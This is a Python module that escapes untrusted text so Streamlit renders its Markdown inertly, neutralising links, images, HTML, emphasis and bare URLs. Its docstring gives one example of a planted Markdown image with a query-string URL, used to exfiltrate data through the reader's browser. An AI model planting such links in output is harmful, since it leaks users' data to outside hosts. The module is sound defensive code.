"""Text from documents, the model, users and sources, made inert for Streamlit's Markdown.

Almost every Streamlit call that shows a string (``st.markdown``, ``st.caption``, ``st.error``,
``st.toast``, expander, metric and progress labels) reads it as Markdown: a planted
``![](https://host/?q=...)`` would make the reader's browser fetch that URL, carrying whatever the
attacker put in it, and links or HTML could be planted too. The page escapes such text with
:func:`md_escape` and adds only its own markup around it.
"""

from __future__ import annotations

import re

# Characters that open or close an inline construct wherever they stand, backslash-escaped
# (CommonMark then shows them literally): emphasis, strikethrough, code, links, images, autolinks,
# raw HTML, entities, table cells, and Streamlit's additions: `:color[...]`, `:emoji:` and
# `:material/icon:` (colon) and LaTeX (`$`).
INLINE = "\\`*_[]<>~&:$!|"
_ESCAPES = str.maketrans({c: "\\" + c for c in INLINE})
# Markers that are active only where a line starts (after its indentation): ATX headings, list
# items (`-`, `+`, `1.`, `1)`), setext underlines (`=`, `-`) and table delimiter rows (`-`).
# Escaped there only, so "orchard.txt" or "#0" read the same in the page's source.
_BLOCK_START = re.compile(r"(?:\A|(?<=[\r\n]))([ \t]*)(#{1,6}(?=[ \t\r\n]|\Z)|[-+=]|\d{1,9}[.)])")

# GitHub's bare-URL links (`https://x`, `www.x`, `a@b.c`) are found in the parsed text, after
# escapes are undone, so no backslash stops them. An invisible WORD JOINER inside the pattern
# does: it matches neither `https?://`, `www.` nor the domain after `@`.
WORD_JOINER = "\u2060"
_BARE_LINK = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)(?=[-\w])", re.IGNORECASE)


def _escape_block_start(match: re.Match[str]) -> str:
    indent, marker = match.groups()
    if marker[-1] in ".)":  # an ordered list's number stays; its dot or parenthesis is escaped
        return f"{indent}{marker[:-1]}\\{marker[-1]}"
    return f"{indent}\\{marker}"


def md_escape(text: object) -> str:
    """``text`` as Markdown that shows these characters (and, in bare URLs and mail addresses, an
    invisible word joiner): no image, link, bare URL, HTML, entity or emphasis in it is active.
    Escape a whole text, not pieces of it: a URL split across two pieces would not be broken
    (each piece's start is taken for a line's start, so pieces get more escapes, never fewer)."""
    inline = _BARE_LINK.sub(WORD_JOINER, str(text)).translate(_ESCAPES)
    return _BLOCK_START.sub(_escape_block_start, inline)
